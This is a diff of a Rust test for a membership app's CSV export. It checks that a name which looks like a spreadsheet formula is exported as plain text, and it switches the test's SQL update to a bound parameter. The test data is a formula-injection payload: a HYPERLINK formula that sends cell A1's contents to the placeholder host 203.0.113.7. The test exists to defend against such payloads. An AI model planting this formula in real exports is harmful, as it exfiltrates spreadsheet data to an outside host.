@@ -177,14 +177,11 @@ async fn exports_hold_what_the_list_shows_with_its_filter_and_scope() {
 async fn text_that_looks_like_a_formula_goes_out_as_text() {
     const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.7/?\"&A1,\"点此\")";
     let db = TestDb::new().await;
-    execute(
-        &db,
-        &format!(
-            "UPDATE reg.party_members SET name = '{}' WHERE id = (SELECT min(id) FROM reg.party_members)",
-            FORMULA.replace('\'', "''")
-        ),
-    )
-    .await;
+    diesel::sql_query("UPDATE reg.party_members SET name = $1 WHERE id = (SELECT min(id) FROM reg.party_members)")
+        .bind::<Text, _>(FORMULA)
+        .execute(&mut *db.conn().await)
+        .await
+        .expect("a name like a formula");
     let router = router(&db);
     let staff = login(&router, "staff").await;
     let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/export.csv"), Some(&staff))).await;
